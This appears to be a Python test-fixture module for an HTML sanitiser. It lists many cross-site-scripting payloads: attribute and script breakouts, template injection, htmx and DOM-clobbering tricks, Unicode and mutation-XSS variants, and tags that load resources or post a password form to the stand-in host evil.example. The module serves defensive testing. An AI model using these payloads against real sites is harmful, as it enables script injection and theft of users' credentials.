"""Texts that try to run in somebody's page; each that does says its number by `pwned(number)`.

To what the sanitiser is held to (`tests/connectors/html/payloads.py`) come those that aim at the places of our pages:
attributes, titles, scripts, our own hooks, names that shadow the document's, and addresses.
"""

from tests.connectors.html.payloads import SCHEMES, payloads

ELSEWHERE = "http://evil.example"
"""Nothing may ever be asked of it."""

RUN = "alert(1)"
"""What a text says that wants to run; `corpus()` puts its number there."""

BREAKS = (
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) tabindex=0 x="',
    "` onfocus=alert(1) autofocus x=`",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '"/><details open ontoggle=alert(1)>',
    "></option></select><img src=x onerror=alert(1)>",
    "</option></select><script>alert(1)</script>",
    "</a></h3></article><script>alert(1)</script>",
    "</button><iframe onload=alert(1)>",
    "</time><video onloadstart=alert(1) src=x>",
    "</p></main></body><body onload=alert(1)>",
    "</title></head><body onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</pre></code><img src=x onerror=alert(1)>",
    "</svg><script>alert(1)</script>",
    "</dialog><img src=x onerror=alert(1)>",
    "--></style></script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "&#34;&#62;<img src=x onerror=alert(1)>",
    "\" srcdoc='<script>alert(1)</script>' x=\"",
    '" style="animation:x 1s" onanimationstart="alert(1)',
    '" popovertarget=x onbeforetoggle=alert(1) x="',
    "x\r\nLocation: javascript:alert(1)\r\n\r\n<script>alert(1)</script>",
    "x\u2028<script>alert(1)</script>",
)
SCRIPTS = (
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "</script><script>alert(1)</script>",
    "<!--<script>*/alert(1)/*-->",
    "${alert(1)}",
    "`-alert(1)-`",
    "'-alert(1)-'",
    "\\u0027;alert(1)//",
    '{"__proto__": {"onload": "alert(1)"}}',
    "]]>;alert(1);<![CDATA[",
)
TEMPLATES = (
    "{{ 7*7 }}{{ ''.__class__.__mro__ }}<img src=x onerror=alert(1)>",
    "{% for x in ().__class__.__base__.__subclasses__() %}<img src=x onerror=alert(1)>{% endfor %}",
    "{{ say('layout.skip') }}<script>alert(1)</script>",
    "{0.__class__} {count} {name} %s %(x)s <img src=x onerror=alert(1)>",
    "<%= alert(1) %><script>alert(1)</script>",
    "#{alert(1)}<svg onload=alert(1)>",
    "[[alert(1)]]<svg onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}<b ng-app>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\" x-init=alert(1) @click=alert(1) :onclick=alert(1)>",
)
HOOKS = (
    "<div hx-get='http://evil.example/' hx-trigger=load hx-swap=innerHTML>x</div>",
    "<div hx-on:load=alert(1) hx-on::after-init=alert(1)>x</div>",
    "<div hx-sse:connect='http://evil.example/events'>x</div>",
    "<hx-partial hx-target=body><img src=x onerror=alert(1)></hx-partial>",
    '<meta name=htmx-config content=\'{"extensions":"x"}\'><img src=x onerror=alert(1)>',
    "<a data-command data-key=j href=javascript:alert(1)>x</a>",
    "<a data-count=unread href=javascript:alert(1)>x</a>",
    "<form data-mark-all data-leaving action=javascript:alert(1)><button data-key=m>x</button></form>",
    "<button data-open=palette formaction=javascript:alert(1) type=submit form=marks>x</button>",
    "<p data-live-part='http://evil.example/'>x</p>",
    "<link rel=modulepreload href=http://evil.example/x.js><script type=module src=http://evil.example/x.js></script>",
    '<script type=importmap>{"imports":{"./app.js":"http://evil.example/x.js"}}</script>',
    "<link rel=manifest href=http://evil.example/m><link rel=preload as=script href=http://evil.example/x.js>",
)
SHADOWS = (
    "<img name=cookie><img name=body><form name=head></form>",
    "<form id=location><input name=href value=javascript:alert(1)></form>",
    "<form name=querySelectorAll></form><form name=getElementById></form>",
    "<a id=htmx></a><a id=htmx name=config href='javascript:alert(1)'></a>",
    "<div id=live></div><div id=toasts></div><div id=palette-list></div>",
    "<form id=marks action=http://evil.example/><input name=back></form>",
    "<img id=pwned name=pwned><output id=fetch>x</output>",
    "<iframe name=self srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object name=implementation></object><embed name=createElement>",
    "<base target=_blank href=http://evil.example/><a href=x>x</a>",
    "<input form=marks name=read value=1 autofocus onfocus=alert(1)>",
)
ODD = (
    "<\u017fcript>alert(1)</\u017fcript>",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "\ufeff<script>alert(1)</script>",
    "\u202e>tpircs/<(1)trela>tpircs<<img src=x onerror=alert(1)>",
    "\u200b<img\u200b src=x onerror=alert(1)>",
    "<img\u00a0src=x\u00a0onerror=alert(1)>",
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "\u02bascript\u02bc \u2039img src=x onerror=alert(1)\u203a",
    "\uff02\uff1e\uff1cimg src=x onerror=alert(1)\uff1e",
    "<svg/onload\u2028=alert(1)>",
    "&#0000060script&#62;alert(1)&#60;/script&#62;",
    "&NewLine;&Tab;<svg &Tab;onload&equals;alert&lpar;1&rpar;>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
)
MUTATIONS = (
    "<svg><desc><noscript></desc><s>&lt;/noscript>&lt;img src=x onerror=alert(1)></s></noscript></svg>",
    "<math><ms><style></ms><img title='</style><img src=x onerror=alert(1)>'></math>",
    "<p><svg><title></p><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<table><math><tr><td><mglyph><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<form><div></form><form><math><mtext></form><form><mglyph><svg><xmp><a title='</xmp><img src onerror=alert(1)>'>",
    "<select><option><svg><style></option></select><img src=x onerror=alert(1)></style>",
    "<listing>&lt;img src=x onerror=alert(1)></listing>",
    "<b><style><b title='</style><img src=x onerror=alert(1)>'></b>",
    "<a title='`><img src=x onerror=alert(1)>'>x</a>",
    "<pre>\n\n<svg><![CDATA[</pre><img src=x onerror=alert(1)>]]></svg>",
    "<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id='-><img src onerror=alert(1)>'>",
    "<ruby><svg><font color=x><p><style><g title='</style><img src onerror=alert(1)>'>",
)
LEAKS = (
    "<img src=http://evil.example/pixel.gif>",
    "<img srcset='http://evil.example/1.png 1x, http://evil.example/2.png 2x'>",
    "<picture><source srcset=http://evil.example/s.webp><img src=http://evil.example/i.png></picture>",
    "<video poster=http://evil.example/p.png src=http://evil.example/v.mp4 autoplay preload=auto></video>",
    "<audio src=http://evil.example/a.mp3 autoplay preload=auto></audio>",
    "<body background=http://evil.example/b.png><table background=http://evil.example/t.png><td>x</table>",
    "<div style='background:url(http://evil.example/d.png)'>x</div>",
    "<style>body{background:url(http://evil.example/css.png)}</style>",
    "<link rel=stylesheet href=http://evil.example/s.css><link rel=dns-prefetch href=//evil.example>",
    "<link rel=icon href=http://evil.example/i.ico><link rel=prefetch href=http://evil.example/x>",
    "<input type=image src=http://evil.example/i.png><svg><image href=http://evil.example/s.png /></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/r'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *"><script>alert(1)</script>',
    "<iframe src=http://evil.example/f></iframe><object data=http://evil.example/o></object>",
    "<form action=http://evil.example/steal method=post><input name=password autofocus><button>OK</button></form>",
    "<a href=http://evil.example/ ping=http://evil.example/ping attributionsrc=http://evil.example/>x</a>",
    "<track src=http://evil.example/t.vtt default><portal src=http://evil.example/p></portal>",
    "<fencedframe src=http://evil.example/x></fencedframe><embed src=http://evil.example/e.svg>",
)

OWN = (*BREAKS, *SCRIPTS, *TEMPLATES, *HOOKS, *SHADOWS, *ODD, *MUTATIONS, *LEAKS)


def corpus() -> tuple[str, ...]:
    """Every text, with its number in what it would run; without halves of characters, which no database holds."""
    whole = (text.encode("utf-8", "ignore").decode() for text in (*OWN, *payloads()))
    return tuple(text.replace(RUN, f"pwned({number})") for number, text in enumerate(whole))


def addresses() -> tuple[str, ...]:
    """What stands where an address is expected: the schemes, and ways out of an attribute."""
    hidden = (f"https://example.org/{text}" for text in (*BREAKS, *SCRIPTS))
    strange = ("//evil.example/x", "http://evil.example\\@127.0.0.1/", "https:evil.example", "javascript://%0aalert(1)")
    texts = (*SCHEMES, *strange, *hidden)
    return tuple(text.replace(RUN, f"pwned({10_000 + number})") for number, text in enumerate(texts))
